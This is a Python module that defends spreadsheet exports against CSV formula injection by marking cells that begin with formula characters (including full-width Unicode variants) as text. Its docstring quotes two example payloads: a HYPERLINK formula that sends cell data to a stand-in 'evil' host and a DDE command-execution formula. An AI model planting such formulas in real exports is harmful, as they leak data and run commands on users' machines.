"""The one rule for text that lawsite writes into a spreadsheet cell (CSV today).

A spreadsheet runs a cell as a formula when it starts with `=`, `+`, `-` or
`@` (`=HYPERLINK("http://evil/?"&A1)`, `=cmd|' /C calc'!A0`), and some
strip a leading tab, carriage return, line feed or other space before they
look (OWASP, "CSV Injection"; CWE-1236). Such a cell gets a leading
apostrophe, the spreadsheets' mark for "this is text" (OWASP's advice).
Looked at: the first character that is neither white space nor
an invisible format character (zero-width space, BOM …), in its
compatibility form, so full-width `＝＋－＠` and the small forms `﹦﹢﹣﹫`
count as `=+-@` (Chinese input methods type them; whether a given Excel or
WPS treats them as formulas varies with version and locale, so they are
taken as triggers). A text that starts with `'` gets one more, so that
reading back is one rule: drop one leading `'`. Numbers are left as they
are: they are never formulas.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from itertools import chain
from typing import Any, Iterable, Iterator, Sequence

TRIGGERS = frozenset("=+-@")
_STRIPPED_FIRST = frozenset("\t\r\n")  # cells starting with these are neutralised whatever follows (OWASP)


def spreadsheet_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV as Excel and WPS open it right: UTF-8 with a BOM (else they read
    the Chinese text as GBK), CRLF line ends, every cell through
    `spreadsheet_cell`."""
    return b"".join(spreadsheet_csv_chunks(header, rows))


def spreadsheet_csv_chunks(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[bytes]:
    """`spreadsheet_csv` a row at a time, so a large table is never held at once."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for index, row in enumerate(chain([header], rows)):
        out.seek(0)
        out.truncate()
        writer.writerow([spreadsheet_cell(value) for value in row])
        yield ("\ufeff" if index == 0 else "").encode("utf-8") + out.getvalue().encode("utf-8")


def spreadsheet_cell(value: Any) -> Any:
    """`value` as a spreadsheet must get it: a text a spreadsheet would run
    as a formula with a leading `'`, and so a text that starts with `'`
    itself, so that a program gets every text back by dropping one leading
    `'`; anything else (numbers …) unchanged."""
    if isinstance(value, str) and (starts_formula(value) or value.startswith("'")):
        return "'" + value
    return value


def starts_formula(text: str) -> bool:
    """True if a spreadsheet could read `text` as a formula."""
    if text[:1] in _STRIPPED_FIRST:
        return True
    for char in text:
        if char.isspace() or unicodedata.category(char) == "Cf":
            continue
        return unicodedata.normalize("NFKC", char)[:1] in TRIGGERS
    return False
